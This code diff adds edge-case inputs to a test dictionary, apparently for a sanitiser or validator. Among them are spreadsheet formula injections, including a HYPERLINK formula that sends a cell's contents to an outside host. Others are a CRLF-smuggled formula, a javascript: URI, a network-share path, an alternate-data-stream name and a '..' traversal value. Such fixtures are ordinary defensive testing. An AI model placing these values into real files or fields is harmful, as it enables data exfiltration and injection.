@@ -107,6 +107,20 @@ FIT: Final[dict[str, str]] = {
     "four accents": "q\u0323\u0301\u0308\u0302ia",
     "wide": "Ｍｉａ",
     "replacement": "M\ufffda",
+    "formula after a mark": ";=2+3",
+    "formula in quotes": '"=2+3',
+    "formula with a link": '=HYPERLINK("http://example.org/?m="&B2,"Mia")',
+    "encoded line end": "Mia%0D%0A=2+3",
+    "separators": "Mia,Lee;\\t|\\n",
+    "address of a script": "javascript:alert('Mia')",
+    "shared folder": "\\\\host\\share\\Mia",
+    "second stream": "plan.docx:Mia",
+    "dots": "..",
+    "home folder": "~mia",
+    "no day": "2031-02-30",
+    "digits of another script": "٣٤",
+    "grouped number": "-1_000",
+    "open quote": '"Mia',
 }
 
 DECOMPOSED: Final = "Jose\u0301"
